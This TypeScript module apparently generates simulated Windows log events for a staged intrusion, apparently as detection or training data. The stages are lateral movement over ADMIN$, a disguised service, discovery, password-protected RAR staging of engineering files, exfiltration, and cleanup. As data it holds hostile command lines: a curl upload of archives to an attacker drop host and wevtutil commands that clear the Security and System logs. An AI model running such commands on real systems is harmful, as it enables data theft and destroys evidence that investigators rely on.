import type { Instant } from '../../src/model/time.ts'
import { after, chanceOf } from '../chance.ts'
import type { Binary } from '../records/binaries.ts'
import type { Placed } from '../records/place.ts'
import { connect, createFile, deleteFile, end, type Running, start, UNKNOWN } from '../records/processes.ts'
import {
  asker,
  clearLog,
  directory,
  installService,
  logoff,
  logon,
  privileges,
  serviceState,
  share,
} from '../records/security.ts'
import type { HostLog } from '../records/windows.ts'
import { type Base, system32 } from './base.ts'
import { type Campaign, VICTIMS } from './campaign.ts'
import { utc } from './chance.ts'
import { placesOf } from './intrusion-workstation.ts'
import { ADMIN, HOSTILE, MACHINES } from './organisation.ts'

const BINARY = 'C:\\Windows\\mssnap32.exe'
const NEST = 'C:\\ProgramData\\SnapCache'
const SERVICE_FILE: Binary = {
  ...UNKNOWN,
  version: '1.4.0.2',
  description: 'Snapshot helper',
  product: 'Snapshot helper',
  originalName: 'clrsvc.exe',
}
/** A well-known archiver under another name; its own version information still says what it is. */
const ARCHIVER_FILE: Binary = {
  version: '7.13.0',
  description: 'Command line RAR',
  product: 'WinRAR',
  company: 'Alexander Roshal',
  originalName: 'Rar.exe',
}

const SYSMON = 'windows:sysmon'
const SECURITY = 'windows:security'
const SYSTEM = 'windows:system'
/** When the operator turns to the server: half past ten in the morning, eight hours east of Greenwich. */
export const JUMP: Instant = utc(12, '02:36:14')

/** With Radek's administrator account, but from Jonas's computer and by NTLM: a service on the file server. */
export function jump(files: Base, controller: HostLog, campaign: Campaign, departure: readonly Placed[]): Running {
  const { host } = files
  const from = MACHINES.engineering
  const time = after(JUMP, 1.3)
  const proof = directory.ntlm(controller, ADMIN, time, from.name)
  const logonId = host.logonId()
  const who = asker(ADMIN, { logonId })
  const arrival = [
    logon(host, ADMIN, after(time, 0.05), {
      type: 3,
      logonId,
      from: from.address,
      method: 'NTLM',
      workstation: from.name,
      elevated: true,
    }),
    privileges(host, who, after(time, 0.06)),
  ]
  const copied = share(host, who, after(time, 2.2), {
    name: 'ADMIN$',
    localPath: '\\??\\C:\\Windows',
    from: from.address,
    files: ['mssnap32.exe'],
    writes: true,
  })
  const written = createFile(files.kernel, after(time, 2.6), BINARY)
  campaign.add({
    stage: 'spread',
    technique: 'T1021.002',
    what: 'logon to the file server with the stolen administrator account, and a program copied there',
    subjects: [VICTIMS.administrator, VICTIMS.server, VICTIMS.workstation],
    visibleIn: [SYSMON, SECURITY],
    events: [...departure, proof, ...arrival, ...copied, written],
  })
  const pipe = share(host, who, after(time, 6.8), {
    name: 'IPC$',
    localPath: '',
    from: from.address,
    files: ['svcctl'],
  })
  const installed = installService(host, after(time, 7.4), {
    name: 'Volume Snapshot Assistant',
    path: '%SystemRoot%\\mssnap32.exe -k',
    who,
    automatic: true,
  })
  const service = start(files.services, after(time, 8.1), {
    image: BINARY,
    commandLine: 'C:\\Windows\\mssnap32.exe -k',
    session: files.system,
    binary: SERVICE_FILE,
  })
  const running = serviceState(host, after(time, 8.2), 'Volume Snapshot Assistant', 'running')
  logoff(host, ADMIN, after(time, 46), 3, logonId)
  campaign.add({
    stage: 'backdoor',
    technique: 'T1543.003',
    what: 'the program is installed as a service and runs as the system',
    subjects: [VICTIMS.server, VICTIMS.administrator],
    visibleIn: [SYSMON, SECURITY, SYSTEM],
    events: [...pipe, ...installed, ...placesOf(service), running],
  })
  return service
}

/** The service calls less often than the implant on the workstation: every three hours or so. */
export function serverCalls(service: Running, from: Instant, to: Instant): readonly Placed[] {
  const chance = chanceOf('calls of the server')
  const places: Placed[] = []
  for (let time = from; time < to; time = after(time, 10_800 * (0.7 + 0.6 * chance.next()))) {
    places.push(...connect(service, time, HOSTILE.control, { cached: chance.happens(0.3) }))
  }
  return places
}

/** What is wanted is looked for, packed under a password, and sent away; then the log is cleared. */
export function collect(service: Running, campaign: Campaign): void {
  const type = (time: Instant, image: string, commandLine: string): readonly Placed[] => {
    const shell = start(service, time, {
      image: system32('cmd.exe'),
      commandLine: `${system32('cmd.exe')} /c ${commandLine}`,
    })
    if (image === 'cmd.exe') {
      end(shell, after(time, 2.1))
      return placesOf(shell)
    }
    const command = start(shell, after(time, 0.2), { image: system32(image), commandLine })
    end(command, after(time, 2))
    end(shell, after(time, 2.1))
    return placesOf(shell, command)
  }
  campaign.add({
    stage: 'discovery',
    technique: 'T1083',
    what: 'the folders of the engineers are listed',
    subjects: [VICTIMS.server],
    visibleIn: [SYSMON],
    events: [
      ...type(utc(12, '02:44:51'), 'whoami.exe', 'whoami'),
      ...type(utc(12, '02:49:30'), 'cmd.exe', 'dir /s /b D:\\Freigaben\\Konstruktion\\RS-4410'),
      ...type(
        utc(12, '03:07:12'),
        'findstr.exe',
        'findstr  /s /m /i "Legierung Beschichtung" D:\\Freigaben\\Konstruktion\\*.docx',
      ),
    ],
  })
  const places: Placed[] = []
  const tool = `${NEST}\\vsn.exe`
  const packing = utc(13, '01:52:33')
  places.push(createFile(service, after(packing, -160), tool))
  for (const [index, folder] of ['RS-4410', 'LP-2200', 'Normen'].entries()) {
    const time = after(packing, index * 741)
    const archive = `${NEST}\\s${index + 1}.dat`
    const commandLine = `${tool} a -r -ep2 -m3 -v200m -hpGr8-Kestrel!71 ${archive} D:\\Freigaben\\Konstruktion\\${folder}`
    const shell = start(service, time, {
      image: system32('cmd.exe'),
      commandLine: `${system32('cmd.exe')} /c ${commandLine}`,
    })
    const pack = start(shell, after(time, 0.3), { image: tool, commandLine, binary: ARCHIVER_FILE })
    places.push(...placesOf(shell, pack), createFile(pack, after(time, 1.1), archive))
    end(pack, after(time, 300 + index * 71))
    end(shell, after(time, 300.2 + index * 71))
  }
  campaign.add({
    stage: 'collection',
    technique: 'T1560.001',
    what: 'drawings and material data are packed under a password',
    subjects: [VICTIMS.server],
    visibleIn: [SYSMON],
    events: places,
  })
}

/** Sends the archives off and cleans up. */
export function sendAndClean(service: Running, campaign: Campaign): void {
  const { host } = service
  const sent: Placed[] = []
  for (const [index, time] of [utc(14, '02:04:09'), utc(14, '02:19:47'), utc(14, '02:31:20')].entries()) {
    const file = `${NEST}\\s${index + 1}.dat`
    const image = system32('curl.exe')
    const upload = start(service, time, {
      image,
      commandLine: `${image} -s -T ${file} https://${HOSTILE.drop.name}/in/7e41/s${index + 1}`,
    })
    sent.push(...placesOf(upload), ...connect(upload, after(time, 0.5), HOSTILE.drop, { cached: index === 1 }))
    end(upload, after(time, 340 + index * 47))
  }
  campaign.add({
    stage: 'exfiltration',
    technique: 'T1567.002',
    what: 'the archives are uploaded to rented storage',
    subjects: [VICTIMS.server],
    visibleIn: [SYSMON],
    events: sent,
  })
  const time = utc(14, '02:47:55')
  const removed = [1, 2, 3].map((number) => deleteFile(service, after(time, number * 0.7), `${NEST}\\s${number}.dat`))
  removed.push(deleteFile(service, after(time, 4), `${NEST}\\vsn.exe`))
  const clear = start(service, after(time, 131), {
    image: system32('wevtutil.exe'),
    commandLine: 'wevtutil.exe cl Security',
  })
  const system = { sid: 'S-1-5-18', account: 'SYSTEM', domain: 'NT AUTHORITY', logonId: '0x3e7' }
  const cleared = clearLog(host, system, after(time, 131.4), 'Security')
  const clearSystem = start(service, after(time, 149), {
    image: system32('wevtutil.exe'),
    commandLine: 'wevtutil.exe cl System',
  })
  const clearedSystem = clearLog(host, system, after(time, 149.4), 'System')
  campaign.add({
    stage: 'covering tracks',
    technique: 'T1685.005',
    what: 'archives and tool are deleted, the Security and System logs cleared; the collector already had their records',
    subjects: [VICTIMS.server],
    visibleIn: [SYSMON, SECURITY, SYSTEM],
    events: [...removed, ...placesOf(clear), cleared, ...placesOf(clearSystem), clearedSystem],
  })
}
